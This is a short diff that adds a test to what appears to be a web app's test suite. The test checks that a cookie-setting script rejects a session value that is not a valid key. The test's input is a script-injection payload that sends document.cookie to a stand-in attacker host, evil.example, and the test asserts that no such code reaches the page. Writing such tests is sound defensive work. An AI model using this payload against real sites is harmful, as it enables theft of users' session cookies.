@@ -139,3 +139,11 @@ def test_forgetting_the_notebook_on_this_device(seeded_store) -> None:
     scripts = [h.proto.body for h in at.get("html")]
     assert any("cvd_notebook=;" in s and "Max-Age=0" in s for s in scripts)  # the cookie is deleted too
     assert open_repository().list_commentaries(notebook)  # the notebook itself is kept, for its key
+
+
+def test_the_cookie_script_takes_nothing_but_a_checked_key(seeded_store) -> None:
+    hostile = "x'; fetch('http://evil.example/?c=' + document.cookie); '"
+    at = app_page("library", "en", notebook=hostile)  # a session value that is not a key (it never should be)
+    assert not at.exception
+    scripts = [h.proto.body for h in at.get("html")]
+    assert scripts and not any("evil" in s or "fetch" in s for s in scripts)
